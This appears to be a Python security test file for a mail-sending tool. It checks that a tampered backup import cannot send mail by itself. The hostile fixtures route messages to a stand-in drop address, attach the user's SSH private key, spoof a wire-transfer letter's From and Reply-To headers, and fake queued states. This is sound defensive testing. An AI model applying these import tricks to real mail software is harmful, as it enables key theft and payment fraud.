"""Attacks by what is imported: an export that somebody else wrote, or that is old.

Whoever can hand a file to somebody who restores a backup would have their mail program.
"""

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from servers.victim import MARIA, Machine, Ran, Scene
from upgrade import former

DROP = "drop@collector.example"
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE\n"
LETTER = (
    b"From: Board <board@northwind.example>\r\nReply-To: drop@collector.example\r\n"
    b"To: drop@collector.example\r\nSubject: Wire transfer\r\nMessage-ID: <1@board.example>\r\n"
    b"Date: Fri, 20 Nov 2026 17:00:00 +0000\r\n\r\nPlease pay.\r\n"
)
_OLD = "1999-01-01T00:00:00+00:00"
_FAR = "2999-01-01T00:00:00+00:00"
Held = dict[str, Any]


def _private(machine: Machine) -> Path:
    return machine.file(".ssh/id_ed25519", KEY)


def _export(scene: Scene) -> Held:
    """Return an honest export, of a machine on which one note waits."""
    there = scene.machine("there")
    there.must("add", there.job())
    there.must("send", "thank-you", "northwind", "--to", "maria", "--yes", "--later", "tomorrow")
    document: Held = json.loads(there.must("export").out)
    assert [each["state"] for each in document["outbox"]] == ["queued"]
    return document


def _imported(scene: Scene, change: Callable[[Machine, Held, Held], None]) -> Machine:
    """Return a machine into which an export was imported whose message was *changed*.

    Then the timer runs, and somebody wonders and names the message.
    """
    document = _export(scene)
    here = scene.machine()
    (message,) = document["outbox"]
    message |= {"not_before": None, "wanted_at": None}
    change(here, document, message)
    imported = here.run("import", here.file("backup.json", json.dumps(document)))
    here.run("outbox", "deliver")
    here.run("outbox", "deliver", "1")
    here.later(days=3)
    here.run("outbox", "deliver")
    assert scene.server.arrived == (), here.story
    _told(imported)
    return here


def _told(imported: Ran) -> None:
    """See that an import which was taken says what it did with what was waiting."""
    words = ("draft", "message", "outbox", "queue", "waiting")
    assert imported.status or any(word in imported.said for word in words), imported


def test_an_imported_message_does_not_carry_a_private_file_away(scene: Scene) -> None:
    """Row 89: whatever file and reader it names, and however long ago it was queued.

    The attacker gets a private key by mail, from a timer, while nobody looks.
    """

    def hostile(here: Machine, document: Held, message: Held) -> None:
        message["rcpt_to"] = [DROP]
        message["attachments"] = [str(_private(here))]
        for each in (message, *document["applications"]):
            each |= {name: _OLD for name in each if name in {"queued_at", "changed_at"}}

    _imported(scene, hostile)


def test_an_imported_message_of_the_far_future_is_not_sent(scene: Scene) -> None:
    """Row 89: nor one that says it was queued after all that ever happens.

    Whatever looks at what happened since it was queued finds nothing, ever.
    """

    def hostile(here: Machine, _: Held, message: Held) -> None:
        message["rcpt_to"] = [DROP]
        message["attachments"] = [str(_private(here))]
        message["queued_at"] = message["changed_at"] = _FAR

    _imported(scene, hostile)


def test_imported_bytes_do_not_leave_as_they_are(scene: Scene) -> None:
    """Row 89: neither a foreign From nor a foreign Reply-To, under the user's own login.

    The attacker writes in anybody's name through a server that trusts the user.
    """

    def hostile(_: Machine, __: Held, message: Held) -> None:
        message["rcpt_to"] = [DROP]
        message["state"], message["resend"] = "deferred", 1
        message["queued_at"] = message["changed_at"] = _FAR
        message["data"] = base64.b64encode(LETTER).decode()

    _imported(scene, hostile)


def test_a_message_that_says_it_was_broken_off_is_not_taken_up(scene: Scene) -> None:
    """Row 89: an import can't pretend that a program was killed before the end of the message.

    What a crash leaves is sent by itself; so would be what only looks like it.
    """

    def hostile(_: Machine, __: Held, message: Held) -> None:
        message["rcpt_to"] = [DROP]
        message["state"] = "sending"
        message["queued_at"] = message["changed_at"] = _FAR

    _imported(scene, hostile)


def test_a_message_that_says_it_was_put_off_is_not_tried_again(scene: Scene) -> None:
    """Row 89: an import can't pretend that a server said "not now".

    What was put off is sent without anybody's doing once its time comes.
    """

    def hostile(_: Machine, __: Held, message: Held) -> None:
        message["rcpt_to"] = [DROP]
        message["state"] = "deferred"
        message["queued_at"] = message["changed_at"] = _FAR

    _imported(scene, hostile)


def test_a_message_that_is_sent_again_by_hand_is_the_user_s_own(scene: Scene) -> None:
    """Row 89: who writes the note after an import sends what they see, to whom the file names.

    A message of the same key that waits "already" would go in its place.
    """

    def hostile(here: Machine, _: Held, message: Held) -> None:
        message["rcpt_to"] = [DROP]
        message["attachments"] = [str(_private(here))]
        message["subject"] = message["body"] = "Wire transfer"

    here = _imported(scene, hostile)
    here.at("2026-11-23 10:00")
    sent = here.run("send", "thank-you", "northwind", "--to", "maria", "--yes")

    readers = [each.rcpt_to for each in scene.server.arrived]
    assert readers == [(MARIA,)], here.story
    (note,) = scene.server.arrived
    assert b"OPENSSH" not in note.data, sent
    assert b"Wire" not in note.data


def test_an_imported_folder_lends_no_private_file(scene: Scene) -> None:
    """Row 89: an application of an export can't say that its files lie in ~/.ssh.

    The next note of thanks, which the user wants to send, would have the key with it.
    """
    document = _export(scene)
    here = scene.machine()
    private = _private(here)
    (application,) = document["applications"]
    application["folder"] = str(private.parent)
    application["text"] = application["text"].replace(
        "[me]", f'attachments = ["{private.name}"]\n[me]', 1
    )
    document["outbox"] = []
    here.run("import", here.file("backup.json", json.dumps(document)))

    here.run("send", "thank-you", "northwind", "--to", "david", "--yes")

    assert all(not list(each.message.iter_attachments()) for each in scene.server.arrived), (
        here.story
    )


def test_an_old_export_sends_nothing_by_itself(scene: Scene) -> None:
    """Row 89: one that an earlier version wrote, in which six messages wait, sends none.

    Who restores a backup of last month does not mean to send last month's mail.
    """
    here = scene.machine(config="per_minute = 0\n")
    text = (former.KEPT / "export.json").read_text("utf-8")
    here.file("samples/rota.txt", "Mondays: Priya\n")
    here.at(former.MADE_AT)
    imported = here.must(
        "import", here.file("backup.json", text.replace(former.FOLDER, str(here.folder)))
    )
    here.run("doctor", "--trust-store")

    here.run("outbox", "deliver")
    here.at("2026-11-23 09:45")
    here.run("outbox", "deliver")

    assert scene.server.arrived == (), here.story
    _told(imported)


def test_an_import_that_has_used_up_all_numbers_breaks_nothing(scene: Scene) -> None:
    """Row 89: the counters of an export say how far numbers were given out.

    With the last one gone a message leaves, and recording it fails: it will leave again.
    """
    document = _export(scene)
    document["outbox"] = []
    for name in ("entry", "message", "posting", "application"):
        here = scene.machine(name)
        counters = {**document["counters"], name: 2**63 - 1}
        backup = here.file("backup.json", json.dumps({**document, "counters": counters}))
        if here.run("import", backup).status == 0:
            here.run("log", "northwind", "thank-you", "--to", "david")
            before = len(scene.server.arrived)
            sent = here.run("send", "thank-you", "northwind", "--to", "maria", "--yes")
            assert (sent.status == 0) == (len(scene.server.arrived) > before), here.story
